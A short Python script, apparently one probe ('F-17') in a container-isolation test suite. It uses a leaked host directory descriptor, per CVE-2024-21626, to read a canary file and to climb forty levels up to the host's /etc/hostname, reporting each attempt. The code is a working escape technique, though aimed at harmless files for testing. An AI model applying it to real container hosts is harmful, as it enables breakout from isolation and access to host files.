"""F-17: opens a file below a directory of the host that was left open (CVE-2024-21626)."""
import os
from attempts import attempt, report

HELD = 9


def up():
    os.fchdir(HELD)
    os.close(os.open("../" * 40 + "etc/hostname", os.O_RDONLY))


attempt("read the canary", lambda: os.close(os.open("canary", os.O_RDONLY, dir_fd=HELD)))
attempt("climb from there", up)
report()
